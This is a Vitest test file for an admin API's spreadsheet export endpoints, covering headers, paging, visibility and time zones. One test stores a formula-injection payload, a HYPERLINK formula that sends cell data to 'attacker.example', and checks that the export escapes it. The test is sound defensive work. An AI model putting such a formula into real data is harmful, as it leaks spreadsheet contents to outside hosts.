/**
 * Exports: an .xlsx of every matching row, headers in the caller's language, the list's visibility
 * and filters, and keyset paging that neither skips nor repeats rows across pages; times on the
 * clocks the screen shows them on, and texts no spreadsheet reads as a formula.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { useDemoServer } from '../support/demo-world';
import { brandId, newStore, storeId } from '../support/merchant';
import { postExport } from '../support/xlsx';

const ctx = useDemoServer(['admin', 'dealer1', 'staff1']);
const BULK = 2500;

beforeAll(async () => {
  // Many rows sharing one created_at and a few names, so the export's pages must break ties by id.
  await ctx.w.sql(
    `insert into orgs (name, type, level, parent_id, country, created_at, quota, remaining_quota)
    select 'Bulk ' || (g % 7), 'dealer', 1, $1, 'MY', '2024-01-01T00:00:00.123456Z', g, g from generate_series(1, ${BULK}) g`,
    [ctx.w.org.op],
  );
  await ctx.w.sql(`update orgs set path = $1::text || id || '.' where name like 'Bulk %'`, [`${ctx.w.org.op}.`]);
});

const dealers = (body: Record<string, unknown>, who = 'admin', query: Record<string, string> = {}) =>
  postExport(ctx.server.api, '/distributor/export', body, ctx.token[who], query);

/** `name: level` of each exported dealer, sorted. */
const levelsOf = (rows: unknown[][]) =>
  rows
    .slice(1)
    .map((r) => `${String(r[1])}: ${String(r[2])}`)
    .sort();

describe('POST /distributor/export', () => {
  it('answers an attachment named after the resource, with headers in the request language', async () => {
    const en = await dealers({ countries: 'TR' });
    expect(en.status).toBe(200);
    expect(en.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(en.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''Dealers-\d{8}-\d{6}\.xlsx$/);
    expect(en.rows[0]).toEqual([
      'ID',
      'Name',
      'Level',
      'Upstream dealer',
      'Country',
      'Contact',
      'Contact phone',
      'Email',
      'Quota',
      'Remaining quota',
      'SMS balance',
      'Status',
      'Remark',
      'Created at (UTC)',
    ]);
    expect(
      en.rows
        .slice(1)
        .map((r) => r[1])
        .sort(),
    ).toEqual(['Anadolu Restoran Sistemleri', 'Ege POS Bayi']);
    expect(en.rows[1][11]).toBe('Enabled');
    // the level as the list shows it, not its number (Anadolu is level 1, Ege POS below it)
    expect(levelsOf(en.rows)).toEqual(['Anadolu Restoran Sistemleri: Level 1', 'Ege POS Bayi: Level 2']);
    expect(en.rows[1][13]).toBeInstanceOf(Date);

    const zh = await dealers({ countries: 'TR' }, 'admin', { lang: 'zh-CN' });
    expect(zh.rows[0].slice(0, 4)).toEqual(['ID', '名称', '级别', '上级经销商']);
    expect(levelsOf(zh.rows)).toEqual(['Anadolu Restoran Sistemleri: 一级', 'Ege POS Bayi: 二级']);
    expect(decodeURIComponent(zh.headers.get('content-disposition')!.split("''")[1])).toMatch(/^经销商-\d{8}-\d{6}\.xlsx$/);
  });

  it('exports only what the caller sees', async () => {
    const mine = await dealers({}, 'dealer1');
    expect(
      mine.rows
        .slice(1)
        .map((r) => r[1])
        .sort(),
    ).toEqual(['Jakarta Selatan Reseller', 'Nusantara POS Partners']);
    const staff = await dealers({}, 'staff1');
    expect(staff.rows).toHaveLength(1);
  });

  it(`exports all ${BULK} matching rows across pages, each once, in the requested order`, async () => {
    const all = await dealers({ countries: ['MY'], level: 1, sort: 'name', order: 'asc' });
    const rows = all.rows.slice(1);
    expect(rows).toHaveLength(BULK + 1);
    const ids = rows.map((r) => r[0] as number);
    expect(new Set(ids).size).toBe(ids.length);
    const keys = rows.map((r) => [r[1] as string, r[0] as number] as const);
    const sorted = [...keys].sort((a, b) => (a[0] === b[0] ? a[1] - b[1] : a[0] < b[0] ? -1 : 1));
    expect(keys).toEqual(sorted);

    const newest = await dealers({ name: 'bulk', sort: 'created_at', order: 'desc' });
    const newestIds = newest.rows.slice(1).map((r) => r[0] as number);
    expect(newestIds).toHaveLength(BULK);
    expect(newestIds).toEqual([...newestIds].sort((a, b) => b - a));
  });

  it('survives a client that goes away mid-download', async () => {
    const stop = new AbortController();
    const res = await fetch(`${ctx.server.api}/distributor/export`, {
      method: 'POST',
      signal: stop.signal,
      headers: { authorization: `Bearer ${ctx.token.admin}`, 'content-type': 'application/json' },
      body: '{}',
    });
    const reader = res.body!.getReader();
    await reader.read();
    stop.abort();
    await reader.read().catch(() => undefined);
    const again = await dealers({ countries: 'TR' });
    expect(again.rows).toHaveLength(3);
  });

  it('refuses unknown body fields and bad filters with the error envelope', async () => {
    const extra = await dealers({ page: 1 });
    expect([extra.status, extra.code, extra.reason]).toEqual([400, 1001, 'page']);
    const bad = await dealers({ level: 5 });
    expect([bad.status, bad.code, bad.reason]).toEqual([400, 1001, 'level']);
    const country = await dealers({ country: 'TR' });
    expect([country.code, country.reason]).toEqual([1001, 'country']);
    const countries = await dealers({ countries: ['TR', 'TR'] });
    expect([countries.code, countries.reason]).toEqual([1001, 'countries']);
    const sort = await dealers({ sort: 'path' });
    expect([sort.code, sort.reason]).toEqual([1001, 'sort']);
  });
});

describe('POST /staff/export', () => {
  it('exports the visible employees with their org and translated role', async () => {
    const answer = await postExport(ctx.server.api, '/staff/export', { sort: 'account', order: 'asc' }, ctx.token.dealer1);
    expect(answer.rows[0]).toEqual([
      'ID',
      'Account',
      'Name',
      'Organisation',
      'Role',
      'Phone',
      'Email',
      'Status',
      'Created at (UTC)',
      'Last login (UTC)',
    ]);
    expect(answer.rows.slice(1).map((r) => r[1])).toEqual(['dealer1', 'dealer2', 'manager1', 'staff1', 'staff2']);
    expect(answer.rows[1][4]).toBe('Admin');
    expect(answer.headers.get('content-disposition')).toContain("filename*=UTF-8''Employees-");
  });
});

/** The wall-clock time of an ISO instant in a zone `hours` ahead of UTC, as a date cell reads back (no zone). */
const clockAt = (iso: string, hours: number) => new Date(Date.parse(iso) + hours * 3600_000);

/** The `YYYYMMDD-HHMMSS` of an export's file name, read as a wall-clock time. */
const stampOf = (headers: Headers) => {
  const [, d, t] = /-(\d{8})-(\d{6})\.xlsx$/.exec(decodeURIComponent(headers.get('content-disposition')!))!;
  return Date.UTC(+d.slice(0, 4), +d.slice(4, 6) - 1, +d.slice(6), +t.slice(0, 2), +t.slice(2, 4), +t.slice(4));
};

describe('times and texts in an export', () => {
  it("writes a store's times on its country's clocks, the zone in the header, and formula-looking texts escaped", async () => {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
    const body = newStore(await brandId(ctx.w, 'Kopi Kenangan Kita'), {
      name: formula,
      address: '@SUM(A1:A9)',
      contact_phone: '+62 812 000',
    });
    const id = (await ctx.api.post('/store/create', body, { token: ctx.token.dealer1 })).data.id;
    expect((await ctx.api.post('/store/activate', { id, years: 1 }, { token: ctx.token.dealer1 })).code).toBe(0);
    const store = (await ctx.api.get('/store/detail', { token: ctx.token.dealer1, query: { id } })).data;

    const file = await postExport(ctx.server.api, '/store/export', { name: '=HYPERLINK' }, ctx.token.dealer1, { lang: 'en-US' });
    const [headers, row] = file.rows;
    const cell = (header: string) => row[headers.indexOf(header)];
    expect(headers).toEqual(expect.arrayContaining(['Activated at (GMT+7)', 'Expires at (GMT+7)', 'Created at (GMT+7)']));
    expect(cell('Activated at (GMT+7)')).toEqual(clockAt(store.activated_at, 7));
    expect(cell('Expires at (GMT+7)')).toEqual(clockAt(store.expire_at, 7));
    expect(cell('Name')).toBe(`'${formula}`);
    expect(cell('Address')).toBe("'@SUM(A1:A9)");
    // digits and + - ( ) name no function nor cell: a phone number stays as it is
    expect(cell('Contact phone')).toBe('+62 812 000');

    const zh = await postExport(ctx.server.api, '/store/export', { name: '=HYPERLINK' }, ctx.token.dealer1, { lang: 'zh-CN' });
    expect(zh.rows[0]).toContain('激活时间（GMT+7）');
  });

  it("names no single zone when the stores' countries differ, each time on its own store's clocks", async () => {
    const file = await postExport(ctx.server.api, '/store/export', { countries: 'ID,TR' }, ctx.token.admin);
    const [headers, ...rows] = file.rows;
    const created = headers.indexOf('Created at (local time)');
    expect(created).toBeGreaterThan(-1);
    for (const [name, hours] of [
      ['Kebapçı Halil Kadıköy', 3],
      ['Kopi Kita Sudirman', 7],
    ] as const) {
      const id = await storeId(ctx.w, name);
      const store = (await ctx.api.get('/store/detail', { token: ctx.token.admin, query: { id } })).data;
      expect(rows.find((row) => row[0] === id)![created], name).toEqual(clockAt(store.created_at, hours));
    }
  });

  it("writes other times, and stamps the file name, in the zone the caller's screen shows (tz), UTC without one", async () => {
    const dealer = (await ctx.api.get('/distributor/detail', { token: ctx.token.admin, query: { id: ctx.w.org.tr1 } })).data;
    const shanghai = await dealers({ countries: 'TR', tz: 'Asia/Shanghai' });
    const created = shanghai.rows[0].indexOf('Created at (GMT+8)');
    expect(created).toBeGreaterThan(-1);
    expect(shanghai.rows.find((row) => row[0] === dealer.id)![created]).toEqual(clockAt(dealer.created_at, 8));
    expect(Math.abs(stampOf(shanghai.headers) - (Date.now() + 8 * 3600_000))).toBeLessThan(120_000);

    // a zone with summer time has no one offset: the header names it
    const newYork = await dealers({ countries: 'TR', tz: 'America/New_York' });
    expect(newYork.rows[0]).toContain('Created at (America/New_York)');

    const utc = await dealers({ countries: 'TR' });
    expect(utc.rows.find((row) => row[0] === dealer.id)![13]).toEqual(clockAt(dealer.created_at, 0));
    expect(Math.abs(stampOf(utc.headers) - Date.now())).toBeLessThan(120_000);

    for (const tz of ['Mars/Olympus', '', 'x'.repeat(80)]) {
      const bad = await dealers({ tz });
      expect([bad.status, bad.code, bad.reason], tz).toEqual([400, 1001, 'tz']);
    }
  });
});
